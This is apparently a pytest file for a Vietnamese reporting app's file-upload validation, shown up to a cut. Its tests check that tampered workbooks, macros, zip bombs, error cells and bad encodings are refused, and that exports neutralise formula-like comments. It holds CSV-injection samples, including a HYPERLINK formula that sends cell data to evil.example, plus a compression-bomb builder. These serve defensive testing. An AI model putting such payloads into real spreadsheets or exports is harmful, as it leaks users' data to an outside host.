"""Bad files and bad values are refused with a clear message, and nothing is written.

Every upload goes through `read_file` then `write_values`, as the web upload does; each case
checks the problem names the cell or row where it can, and that the database did not change.
"""

import csv
import datetime as dt
import io
import json
import re
import time
import unicodedata
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from steer.accounts.models import User
from steer.reporting import safety
from steer.reporting.formats import (
    WRITERS,
    read_file,
    write_csv,
    write_dhis2_csv,
    write_dhis2_json,
    write_table_xlsx,
)
from steer.reporting.imports import Entry, Problem, Rejected
from steer.reporting.models import (
    DataValue,
    ImportBatch,
    ReportForm,
    Submission,
    ValueChange,
)
from steer.reporting.periods import Period
from steer.reporting.safety import UnsafeFile
from steer.reporting.selectors import report_rows
from steer.reporting.values import write_values
from steer.reporting.workbook import DATA_SHEET, META_SHEET, build_workbook
from steer.units.models import OrgUnit

PERIOD = "202403"
# The monthly form's rows in the report workbook: CT10 total, its three sectors, then CT16.
CT10_ROW, TRONG_TROT_ROW, CHAN_NUOI_ROW, THUY_SAN_ROW, CT16_ROW = 8, 9, 10, 11, 12
LAST_ROW = CT16_ROW


# -- the world ---------------------------------------------------------------------------------


def user(username: str) -> User:
    return User.objects.get(username=username)


@pytest.fixture
def reporter():
    return user("baocao.dongda")


def snapshot() -> tuple[int, int, int, list]:
    """What the database holds of reported values, to compare before and after an upload."""
    return (
        DataValue.objects.count(),
        ValueChange.objects.count(),
        Submission.objects.count(),
        list(DataValue.objects.order_by("pk").values_list("pk", "value", "quality", "comment")),
    )


@pytest.fixture
def unchanged(db):
    """Asserts, after the test, that no value, change record or submission was written."""
    before = snapshot()
    yield
    assert snapshot() == before


def upload(data: bytes, name: str, uploader, programme=None) -> list[Problem]:
    """What the web upload does: read the file, write it in one go; the problems, if refused."""
    from steer.programmes.models import Programme

    programme = programme or Programme.objects.get(symbol="07-CTr/TU")
    try:
        entries, meta, problems = read_file(data)
    except UnsafeFile as e:
        return [Problem("", str(e))]
    if problems:
        return problems
    only = None
    if meta is not None:
        only = (
            ReportForm.objects.get(programme=programme, code=meta["form"]),
            OrgUnit.objects.get(code=meta["unit"]),
            meta["period"],
        )
    try:
        write_values(
            programme=programme,
            entries=entries,
            user=uploader,
            channel="excel",
            source=name,
            only=only,
        )
    except Rejected as e:
        return e.problems
    return []


def workbook(form, unit_code: str = "006", period: str = PERIOD) -> bytes:
    unit = OrgUnit.objects.get(code=unit_code)
    p = Period.parse(period)
    return build_workbook(form, unit, p, report_rows(form, unit, p))


def edited(data: bytes, change) -> bytes:
    """The workbook after `change(wb)`, saved again by openpyxl as a user's Excel would."""
    wb = load_workbook(io.BytesIO(data))
    wb.security = None
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def filled(form, values: dict[str, object], unit_code: str = "006") -> bytes:
    """The report workbook of a unit with cells of the data sheet filled in."""

    def fill(wb):
        for ref, value in values.items():
            wb[DATA_SHEET][ref] = value

    return edited(workbook(form, unit_code), fill)


def csv_bytes(*rows: list, header=("unit", "period", "indicator", "option", "value")) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def zip_bytes(parts: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def where(problems: list[Problem]) -> str:
    return " | ".join(str(p) for p in problems)


def stored(unit="006", indicator="CT10", option="", period=PERIOD):
    return DataValue.objects.filter(
        unit__code=unit, indicator__code=indicator, option=option, period=period
    ).first()


# -- positive controls: the refusals below are not refusals of everything ---------------------


def test_a_filled_template_from_the_right_reporter_is_written(programme, monthly, reporter):
    data = filled(monthly, {f"I{CT10_ROW}": 12, f"I{TRONG_TROT_ROW}": 12, f"I{CT16_ROW}": 62.5})
    assert upload(data, "bieu-006.xlsx", reporter) == []
    assert stored().value == Decimal(12)
    assert stored(option="trong-trot").value == Decimal(12)
    assert stored(indicator="CT16").value == Decimal("62.5")
    change = ValueChange.objects.get(unit__code="006", indicator__code="CT10", option="")
    assert (change.channel, change.user) == ("excel", reporter)


def test_dhis2_json_with_the_default_combination_writes_the_total(programme, monthly, reporter):
    document = {
        "period": PERIOD,
        "orgUnit": "006",
        "dataValues": [{"dataElement": "CT10", "categoryOptionCombo": "default", "value": "7"}],
    }
    assert upload(json.dumps(document).encode(), "dhis2.json", reporter) == []
    assert stored().value == Decimal(7)


# -- the workbook is not the one handed out -------------------------------------------------


def set_meta(wb, key: str, change) -> None:
    """Change one entry of the very hidden `_steer` sheet, leaving the signature as it was."""
    meta = wb[META_SHEET]
    (row,) = [r for r in meta.iter_rows() if r[0].value == key]
    row[1].value = change(row[1].value)


def test_a_workbook_of_another_template_is_refused(monthly, reporter, unchanged):
    data = edited(workbook(monthly), lambda wb: set_meta(wb, "template", lambda _: "other"))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_workbook_of_an_older_version_is_refused(monthly, reporter, unchanged):
    data = edited(workbook(monthly), lambda wb: set_meta(wb, "version", lambda _: "0"))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_hidden_keys_that_were_changed_fail_the_signature(monthly, reporter, unchanged):
    def reorder(keys):
        return ";".join(reversed(keys.split(";")))

    data = edited(workbook(monthly), lambda wb: set_meta(wb, "keys", reorder))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_workbook_of_279_relabelled_for_006_fails_the_signature(monthly, reporter, unchanged):
    def relabel(wb):
        set_meta(wb, "unit", lambda _: "006")
        wb[DATA_SHEET][f"I{CT10_ROW}"] = 3

    data = edited(workbook(monthly, "279"), relabel)
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_renamed_data_sheet_is_refused(monthly, reporter, unchanged):
    def rename(wb):
        wb[DATA_SHEET].title = "Sheet1"
        wb["Sheet1"][f"I{CT10_ROW}"] = 5

    problems = upload(edited(workbook(monthly), rename), "bieu.xlsx", reporter)
    assert problems and DATA_SHEET in problems[0].message


def test_a_row_inserted_in_the_protected_area_names_the_row(monthly, reporter, unchanged):
    def insert(wb):
        sheet = wb[DATA_SHEET]
        sheet[f"I{CT10_ROW}"] = 5
        sheet.insert_rows(CHAN_NUOI_ROW)

    problems = upload(edited(workbook(monthly), insert), "bieu.xlsx", reporter)
    # Every shifted row is named, from the inserted one down; the CT10 above it is not.
    rows = [p.where.rsplit(" ", 1)[-1] for p in problems]
    assert rows[:3] == [str(CHAN_NUOI_ROW), str(THUY_SAN_ROW), str(CT16_ROW)], where(problems)
    assert "CT10|chan-nuoi" in problems[0].message


def test_a_row_added_below_the_form_is_refused(monthly, reporter, unchanged):
    below = LAST_ROW + 2
    data = filled(monthly, {f"I{CT10_ROW}": 5, f"C{below}": "CT10", f"I{below}": 99})
    problems = upload(data, "bieu.xlsx", reporter)
    assert [p.where for p in problems if p.where.endswith(str(below))]


# -- values the form does not accept --------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("ba mươi", f"I{CT10_ROW}"),  # text in a number cell
        (-5, f"I{CT10_ROW}"),  # a count cannot be negative
        (2.5, f"I{TRONG_TROT_ROW}"),  # nor a fraction
        (120, f"I{CT16_ROW}"),  # a percentage over 100
        (dt.datetime(2024, 3, 15), f"I{CT10_ROW}"),  # a date typed into a value cell
        (True, f"I{CT10_ROW}"),  # a yes/no value
    ],
    ids=["text", "negative-count", "fraction-of-a-count", "percentage-over-100", "date", "bool"],
)
def test_a_value_the_form_does_not_accept_is_refused_at_its_cell(
    monthly, reporter, unchanged, value, cell
):
    # Another, valid, value in the same file is not written either.
    other = f"I{CT16_ROW}" if cell != f"I{CT16_ROW}" else f"I{CT10_ROW}"
    problems = upload(filled(monthly, {cell: value, other: 10}), "bieu.xlsx", reporter)
    assert len(problems) == 1, where(problems)
    assert problems[0].where.endswith(cell)


def test_text_in_a_number_cell_is_quoted_in_the_message(monthly, reporter, unchanged):
    problems = upload(filled(monthly, {f"I{CT10_ROW}": "ba mươi"}), "bieu.xlsx", reporter)
    assert "ba mươi" in problems[0].message


def test_a_formula_in_a_value_cell_is_refused_at_its_cell(monthly, reporter, unchanged):
    data = filled(monthly, {f"I{CT10_ROW}": 3, f"I{TRONG_TROT_ROW}": "=1+2"})
    problems = upload(data, "bieu.xlsx", reporter)
    # Not G9, the first of the empty cells before it (the formula scan once ran over them).
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == [f"I{TRONG_TROT_ROW}"]


def test_formula_scan_stays_fast_over_many_empty_styled_cells():
    """Empty formatted cells are written <c r="A1" s="1"/>; the scan once went quadratic on them."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d" s="1"/><c r="B%d" s="1"/><c r="C%d" s="1"/></row>' % (i, i, i, i)
        for i in range(1, 20_000)
    )
    formula = b'<row r="20000"><c r="A20000" s="1"/><c r="B20000"><f>1+2</f><v>3</v></c></row>'
    archive = zipfile.ZipFile(
        io.BytesIO(
            zip_bytes(
                {
                    "xl/workbook.xml": (
                        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                        b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                        b'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
                        b"</sheets></workbook>"
                    ),
                    "xl/_rels/workbook.xml.rels": (
                        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        b'relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/>'
                        b"</Relationships>"
                    ),
                    "xl/worksheets/sheet1.xml": b"<worksheet><sheetData>"
                    + rows
                    + formula
                    + b"</sheetData></worksheet>",
                }
            )
        )
    )
    started = time.perf_counter()
    assert safety.formula_cells(archive, "S") == ["B20000"]
    assert time.perf_counter() - started < 5


def test_a_formula_in_a_table_workbook_is_refused_at_its_cell(monthly, reporter, unchanged):
    from openpyxl import Workbook

    wb = Workbook()
    sheet = wb.active
    sheet.title = "Dữ liệu"
    sheet.append(["unit", "period", "indicator", "option", "value"])
    sheet.append(["006", PERIOD, "CT10", "", "=SUM(1,2)"])
    out = io.BytesIO()
    wb.save(out)
    problems = upload(out.getvalue(), "bang.xlsx", reporter)
    assert [p.where.rsplit("!", 1)[-1] for p in problems] == ["E2"]


def test_duplicate_rows_in_a_csv_name_both_rows(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["006", PERIOD, "CT10", "default", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith("3")
    assert "2" in problems[0].message  # the other row


def test_an_unknown_unit_code_is_refused_at_its_row(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["999999", PERIOD, "CT10", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")
    assert "999999" in problems[0].message


def test_an_unknown_indicator_code_is_refused_at_its_row(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["006", PERIOD, "CT999", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")
    assert "CT999" in problems[0].message


# -- files that are not what they claim -----------------------------------------------------


def test_an_empty_file_is_refused(monthly, reporter, unchanged):
    assert upload(b"", "bieu.xlsx", reporter)
    assert upload(b"  \r\n ", "bieu.xlsx", reporter)


def test_plain_text_named_xlsx_is_read_as_csv_whose_header_is_not_recognised(
    monthly, reporter, unchanged
):
    problems = upload(b"hello", "bieu.xlsx", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("1")


def test_a_binary_blob_is_refused(monthly, reporter, unchanged):
    blob = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\x00\x01\x02\xff\nendstream"
    with pytest.raises(UnsafeFile):
        read_file(blob)
    assert upload(blob, "bieu.xlsx", reporter)


def test_a_word_document_is_not_a_workbook(monthly, reporter, unchanged):
    docx = zip_bytes(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.openxmlformats-officedocument.'
                b'wordprocessingml.document.main+xml"/></Types>'
            ),
            "word/document.xml": b"<w:document/>",
        }
    )
    with pytest.raises(UnsafeFile):
        read_file(docx)
    assert upload(docx, "bieu.xlsx", reporter)


def test_a_macro_enabled_workbook_is_refused(monthly, reporter, unchanged):
    base = zipfile.ZipFile(io.BytesIO(filled(monthly, {f"I{CT10_ROW}": 5})))
    parts = {info.filename: base.read(info) for info in base.infolist()}
    assert read_file(zip_bytes(parts))[2] == []  # repacked, it is still fine
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    with pytest.raises(UnsafeFile):
        read_file(zip_bytes(parts))
    assert upload(zip_bytes(parts), "bieu.xlsx", reporter)


def test_a_file_over_the_size_limit_is_refused(monthly, reporter, unchanged, monkeypatch):
    data = filled(monthly, {f"I{CT10_ROW}": 5})
    monkeypatch.setattr(safety, "MAX_UPLOAD_BYTES", len(data) - 1)
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)
    assert upload(csv_bytes(*[["006", PERIOD, "CT10", "", "4"]] * 2000), "v.csv", reporter)


def test_a_compressed_bomb_is_refused_before_it_is_unpacked(monthly, reporter, unchanged):
    bomb = zip_bytes(
        {
            "[Content_Types].xml": b'<Types ContentType="spreadsheetml"/>',
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": bytes(50 * 1024 * 1024),
        }
    )
    assert len(bomb) < 1024 * 1024
    with pytest.raises(UnsafeFile):
        read_file(bomb)
    assert upload(bomb, "bieu.xlsx", reporter)


def test_an_old_xls_workbook_is_refused(monthly, reporter, unchanged):
    xls = safety.OLE_MAGIC + bytes(512)
    with pytest.raises(UnsafeFile, match="xls"):
        read_file(xls)
    assert upload(xls, "bieu.xls", reporter)


def test_an_opendocument_spreadsheet_is_told_to_be_saved_as_xlsx(monthly, reporter, unchanged):
    ods = zip_bytes(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": b"<office:document-content/>",
        },
        zipfile.ZIP_STORED,
    )
    problems = upload(ods, "bieu.ods", reporter)
    assert ".ods" in problems[0].message and ".xlsx" in problems[0].message


def test_a_csv_not_in_utf8_is_refused(monthly, reporter, unchanged):
    header = "unit,period,indicator,option,value,comment\r\n"
    for data in (
        (header + "006,202403,CT10,,4,Đông Đa tính\r\n").encode("cp1258"),
        (header + "006,202403,CT10,,4,Dong Da café\r\n").encode("latin-1"),
    ):
        with pytest.raises(UnsafeFile):
            read_file(data)
        assert upload(data, "values.csv", reporter)


def test_dhis2_json_without_data_values_is_refused(monthly, reporter, unchanged):
    for document in ({"period": PERIOD, "orgUnit": "006"}, {"dataValues": {}}, [1, 2]):
        with pytest.raises(UnsafeFile):
            read_file(json.dumps(document).encode())
        assert upload(json.dumps(document).encode(), "dhis2.json", reporter)
    assert upload(b'{"dataValues": [', "dhis2.json", reporter)


def test_dhis2_json_with_an_unknown_category_option_combo_is_refused(monthly, reporter, unchanged):
    document = {
        "dataValues": [
            {"dataElement": "CT10", "period": PERIOD, "orgUnit": "006", "value": "3"},
            {
                "dataElement": "CT10",
                "period": PERIOD,
                "orgUnit": "006",
                "categoryOptionCombo": "HllvX50cXC0",
                "value": "3",
            },
        ]
    }
    problems = upload(json.dumps(document).encode(), "dhis2.json", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith("2")
    assert "HllvX50cXC0" in problems[0].message


# -- who may write what, and when -----------------------------------------------------------


def test_a_reporter_cannot_upload_the_workbook_of_another_unit(monthly, reporter, unchanged):
    data = filled(monthly, {f"I{CT10_ROW}": 5}, unit_code="279")
    problems = upload(data, "bieu-279.xlsx", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith(f"I{CT10_ROW}")
    assert "Thường Tín" in problems[0].message


def test_a_reporter_cannot_slip_another_unit_into_a_csv(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["279", PERIOD, "CT10", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")


def test_a_locked_period_cannot_be_changed(programme, monthly, reporter):
    assert upload(filled(monthly, {f"I{CT10_ROW}": 5}), "bieu.xlsx", reporter) == []
    Submission.objects.filter(form=monthly, unit__code="006", period=PERIOD).update(
        state=Submission.State.APPROVED
    )
    before = snapshot()
    problems = upload(filled(monthly, {f"I{CT10_ROW}": 6}), "bieu.xlsx", reporter)
    assert len(problems) == 1 and problems[0].where.endswith(f"I{CT10_ROW}")
    assert snapshot() == before
    assert stored().value == Decimal(5)
    # Removing the value is a change too.
    problems = upload(filled(monthly, {f"I{CT10_ROW}": None}), "bieu.xlsx", reporter)
    assert problems and snapshot() == before


# -- what goes out cannot run as a formula --------------------------------------------------

FORMULA_COMMENTS = {
    ("CT10", ""): '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    ("CT10", "trong-trot"): "+SUM(A1)",
    ("CT10", "chan-nuoi"): "-1+1",
    ("CT10", "thuy-san"): "@cmd",
    # Already starts with an apostrophe: exported with one more, so it reads back the same.
    ("CT16", ""): "'-2 so với kỳ trước",
}


@pytest.fixture
def formula_comments(programme, monthly):
    entries = [
        Entry(f"dòng {n}", "279", PERIOD, indicator, option, 1, comment=comment)
        for n, ((indicator, option), comment) in enumerate(FORMULA_COMMENTS.items(), start=2)
    ]
    write_values(programme=programme, entries=entries, user=user("thuongtruc"), channel="import")
    return DataValue.objects.filter(unit__code="279", period=PERIOD)


def neutralised(comments) -> None:
    assert sorted(comments) == sorted("'" + c for c in FORMULA_COMMENTS.values())


def test_csv_export_neutralises_formula_like_comments(formula_comments):
    rows = list(csv.DictReader(io.StringIO(write_csv(formula_comments).decode("utf-8-sig"))))
    neutralised(row["comment"] for row in rows)


def test_dhis2_csv_export_neutralises_formula_like_comments(formula_comments):
    rows = list(csv.DictReader(io.StringIO(write_dhis2_csv(formula_comments).decode("utf-8"))))
    neutralised(row["comment"] for row in rows)


def test_dhis2_json_export_neutralises_formula_like_comments(formula_comments):
    document = json.loads(write_dhis2_json(formula_comments))
    neutralised(item["comment"] for item in document["dataValues"])


def test_table_workbook_export_neutralises_formula_like_comments(formula_comments):
    wb = load_workbook(io.BytesIO(write_table_xlsx(formula_comments)))
    sheet = wb.active
    cells = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    neutralised(cell.value for cell in cells)


def test_report_workbook_neutralises_formula_like_comments(formula_comments, monthly):
    wb = load_workbook(io.BytesIO(workbook(monthly, "279")))
    cells = [wb[DATA_SHEET][f"K{r}"] for r in range(CT10_ROW, CT16_ROW + 1)]
    assert all(cell.data_type == "s" for cell in cells)
    neutralised(cell.value for cell in cells)


@pytest.mark.parametrize("export", ["csv", "dhis2-csv", "dhis2-json", "xlsx", "report"])
def test_an_exported_file_uploaded_again_changes_nothing(
    programme, monthly, formula_comments, export
):
    """The ' added on the way out is taken off on the way in: comments do not grow a '."""
    if export == "report":
        data, name = workbook(monthly, "279"), "bieu-279.xlsx"
    else:
        writer, extension, _type = WRITERS[export]
        data, name = writer(formula_comments), f"export.{extension}"
    entries, meta, problems = read_file(data)
    assert problems == []
    assert sorted(e.comment for e in entries if e.comment) == sorted(FORMULA_COMMENTS.values())
    before = snapshot()
    assert upload(data, name, user("thuongtruc")) == []
    assert snapshot() == before


# -- cells whose content is not what they seem ----------------------------------------------

HALF_YEAR = "2025S1"  # Đống Đa's draft of BC6T-DP: CT15 = 5, CT16 = 35,2, CT18 = 95,6 stored
CT18_ROW = 11  # CT07, CT15, CT16, CT18… from row 8
SPREADSHEET_ERRORS = [
    "#N/A",
    "#DIV/0!",
    "#VALUE!",
    "#REF!",
    "#NAME?",
    "#NUM!",
    "#NULL!",
    "#SPILL!",  # calamine knows none of these three: it cannot read the sheet at all
    "#CALC!",
    "#GETTING_DATA",
]


@pytest.fixture
def half_year(programme):
    return ReportForm.objects.get(programme=programme, code="BC6T-DP")


def half_year_workbook(form, change) -> bytes:
    """Đống Đa's 2025S1 report workbook after `change(wb)`."""
    return edited(workbook(form, "006", HALF_YEAR), change)


def error_cells(errors: dict[str, str], sheet: str = DATA_SHEET):
    """A change that puts error values (as Excel saves them: t="e") into cells."""

    def change(wb):
        for ref, error in errors.items():
            cell = wb[sheet][ref]
            cell.value = error
            cell.data_type = "e"

    return change


def sheet_xml_edited(data: bytes, change, part="xl/worksheets/sheet1.xml") -> bytes:
    """The workbook with one part's XML rewritten by `change(xml) -> xml`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    return zip_bytes(
        {
            name: change(source.read(name)) if name == part else source.read(name)
            for name in source.namelist()
        }
    )


def ct18(period=HALF_YEAR):
    return stored("006", "CT18", period=period).value


@pytest.mark.parametrize("error", SPREADSHEET_ERRORS)
def test_an_error_cell_in_a_report_workbook_is_refused_at_its_cell_and_the_figure_stays(
    half_year, reporter, unchanged, error
):
    """It once read as an empty cell: the preview said one value removed, and confirming
    deleted CT18's 95,6."""
    data = half_year_workbook(half_year, error_cells({f"I{CT18_ROW}": error}))
    problems = upload(data, "BC6T-DP_2025S1_006.xlsx", reporter)
    assert [p.where for p in problems] == [f"trang tính “{DATA_SHEET}”, ô I{CT18_ROW}"]
    assert error in problems[0].message and "lỗi bảng tính" in problems[0].message
    assert ct18() == Decimal("95.6")


def test_error_cells_in_the_status_and_comment_columns_are_refused_too(
    half_year, reporter, unchanged
):
    """Read as empty, they would have set CT18 back to official and wiped its comment."""
    errors = {f"J{CT18_ROW}": "#N/A", f"K{CT18_ROW}": "#REF!"}
    problems = upload(half_year_workbook(half_year, error_cells(errors)), "bc.xlsx", reporter)
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == list(errors)
    assert ["#N/A" in problems[0].message, "#REF!" in problems[1].message] == [True, True]


def test_a_formula_whose_cached_result_is_an_error_is_refused_as_a_formula(
    half_year, reporter, unchanged
):
    def cached_error(xml: bytes) -> bytes:
        return re.sub(rb'(<c r="I11"[^>]*)>(<f>[^<]*</f>)<v></v>', rb'\1 t="e">\2<v>#N/A</v>', xml)

    formula = "=VLOOKUP(C11,'Năm trước'!A:B,2,0)"
    data = half_year_workbook(half_year, lambda wb: wb[DATA_SHEET].__setitem__("I11", formula))
    problems = upload(sheet_xml_edited(data, cached_error), "bc.xlsx", reporter)
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == [f"I{CT18_ROW}"]
    assert "công thức" in problems[0].message


def strict_open_xml(data: bytes) -> bytes:
    """The workbook as Excel saves it as "Strict Open XML Spreadsheet": other namespaces."""
    source = zipfile.ZipFile(io.BytesIO(data))
    renamed = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": (
            b"http://purl.oclc.org/ooxml/spreadsheetml/main"
        ),
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
    }
    parts = {}
    for name in source.namelist():
        content = source.read(name)
        for old, new in renamed.items():
            content = content.replace(old, new)
        parts[name] = content
    return zip_bytes(parts)


def test_a_formula_in_a_strict_open_xml_workbook_is_found_too(half_year, reporter, unchanged):
    """The formula scan once looked for the usual namespace only and found nothing, while
    calamine read the formula's empty result: CT18 removed."""
    data = half_year_workbook(half_year, lambda wb: wb[DATA_SHEET].__setitem__("I11", "=95+0,6"))
    problems = upload(strict_open_xml(data), "bc-strict.xlsx", reporter)
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == [f"I{CT18_ROW}"]
    assert ct18() == Decimal("95.6")


@pytest.mark.parametrize(
    ("held", "shown"), [(0.956, ["95,6%", "0,956"]), (1e300, ["1.00E+302%", "1E+300"])]
)
def test_a_value_cell_formatted_as_a_percentage_is_refused_showing_both_figures(
    half_year, reporter, unchanged, held, shown
):
    """Typed as 95,6 into a cell formatted 0,0 %, CT18 shows 95,6 % and holds 0,956."""

    def percent(wb):
        cell = wb[DATA_SHEET][f"I{CT18_ROW}"]
        cell.value, cell.number_format = held, "0.0%"

    problems = upload(half_year_workbook(half_year, percent), "bc.xlsx", reporter)
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == [f"I{CT18_ROW}"]
    assert all(figure in problems[0].message for figure in shown), problems[0].message
    assert ct18() == Decimal("95.6")


def table_workbook(*rows) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    sheet = wb.active
    sheet.title = "Dữ liệu"
    sheet.append(["Mã đơn vị", "Kỳ báo cáo", "Mã chỉ tiêu", "Chi tiết", "Giá trị", "Ghi chú"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_error_cells_of_a_table_workbook_are_refused_at_their_cells(half_year, reporter, unchanged):
    data = table_workbook(
        ["006", HALF_YEAR, "CT18", "", "#N/A", "Theo báo cáo của Trung tâm Y tế"],
        ["#REF!", HALF_YEAR, "CT16", "", 36.1, ""],
        ["006", HALF_YEAR, "CT15", "", 5, "#DIV/0!"],
    )
    problems = upload(data, "so-lieu.xlsx", reporter)
    assert [p.where for p in problems] == ["Dữ liệu!E2", "Dữ liệu!A3", "Dữ liệu!F4"]
    assert "#N/A" in problems[0].message


def test_a_spreadsheet_error_exported_into_a_csv_is_refused_naming_its_column(
    half_year, reporter, unchanged
):
    data = csv_bytes(
        ["006", HALF_YEAR, "CT18", "", "#N/A"],
        ["006", HALF_YEAR, "CT16", "", "36,1", "#VALUE!"],
        header=("Mã đơn vị", "Kỳ báo cáo", "Mã chỉ tiêu", "Chi tiết", "Giá trị", "Ghi chú"),
    )
    problems = upload(data, "so-lieu.csv", reporter)
    assert [p.where for p in problems] == ["Tệp CSV, dòng 2", "Tệp CSV, dòng 3"]
    assert "“Giá trị”" in problems[0].message and "#N/A" in problems[0].message
    assert "“Ghi chú”" in problems[1].message and "#VALUE!" in problems[1].message


def test_uploading_a_workbook_with_an_error_cell_shows_the_cell_and_keeps_the_figure(
    login, half_year, unchanged
):
    data = half_year_workbook(half_year, error_cells({f"I{CT18_ROW}": "#N/A"}))
    upload_file = io.BytesIO(data)
    upload_file.name = "BC6T-DP_2025S1_006.xlsx"
    response = login("baocao.dongda").post("/p/07-ctr-tu/import/", {"file": upload_file})
    page = response.content.decode()
    assert response.status_code == 200
    assert f"ô I{CT18_ROW}" in page and "#N/A" in page
    assert "bị xóa" not in page
    assert not ImportBatch.objects.filter(file_name="BC6T-DP_2025S1_006.xlsx").exists()


# -- text files: encodings, line ends, long fields -----------------------------------------

HALF_YEAR_CSV = "Mã đơn vị,Kỳ báo cáo,Mã chỉ tiêu,Chi tiết,Giá trị,Ghi chú\r\n"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_csv_saved_as_unicode_text_is_told_to_save_it_as_csv_utf8(
    half_year, reporter, unchanged, encoding
):
    """Excel's "Unicode Text" is UTF-16, tab separated, with or without a byte order mark."""
    text = HALF_YEAR_CSV.replace(",", "\t") + "006\t2025S1\tCT18\t\t96,1\tƯớc tính của phòng\r\n"
    problems = upload(text.encode(encoding), "so-lieu.txt", reporter)
    assert len(problems) == 1
    assert encoding[:6].upper() in problems[0].message
    assert "CSV UTF-8" in problems[0].message


@pytest.mark.parametrize("encoding", ["cp1258", "cp1252"])
def test_a_csv_in_a_legacy_windows_encoding_is_told_to_save_it_as_csv_utf8(
    half_year, reporter, unchanged, encoding
):
    comment = "Đông Đa ước tính" if encoding == "cp1258" else "Đống Đa, café số"
    text = HALF_YEAR_CSV + f"006,2025S1,CT18,,96,{unicodedata.normalize('NFD', comment)}\r\n"
    problems = upload(text.encode(encoding, "replace"), "so-lieu.csv", reporter)
    # The header is the first line with a letter of another encoding.
    assert "CSV UTF-8" in problems[0].message and "dòng 1" in problems[0].message


def test_a_csv_with_cr_only_line_ends_is_read(half_year, reporter):
    data = (HALF_YEAR_CSV + '006,2025S1,CT18,,"96,1",Theo báo cáo quý\r').replace("\r\n", "\r")
    assert upload(data.encode(), "so-lieu.csv", reporter) == []
    assert ct18() == Decimal("96.1")


def test_an_over_long_field_in_a_csv_is_refused_naming_its_line(half_year, reporter, unchanged):
    data = HALF_YEAR_CSV + "006,2025S1,CT18,,96,Ghi chú\r\n006,2025S1,CT16,,36," + "x" * 200_000
    problems = upload(data.encode(), "so-lieu.csv", reporter)
    assert [str(p) for p in problems] == ["Tệp CSV, dòng 3: có trường dài quá 131.072 ký tự."]


def test_a_nul_character_deep_in_a_csv_is_refused_naming_its_line(half_year, reporter, unchanged):
    rows = "".join(f"006,2025S1,CT18,,96,Ghi chú số {n}\r\n" for n in range(400))
    data = HALF_YEAR_CSV + rows + "006,2025S1,CT16,,36,ghi\x00chú\r\n"
    problems = upload(data.encode(), "so-lieu.csv", reporter)
    assert [p.message for p in problems] == [
        "Tệp CSV, dòng 402 chứa ký tự NUL: đây không phải là tệp văn bản."
    ]


# -- JSON and numbers beyond what is stored --------------------------------------------------


def dhis2(value, **item) -> bytes:
    document = {
        "period": HALF_YEAR,
        "orgUnit": "006",
        "dataValues": [{"dataElement": "CT18", "value": value, **item}],
    }
    return json.dumps(document, ensure_ascii=False).encode()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"dataValues": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "lồng nhau quá sâu"),
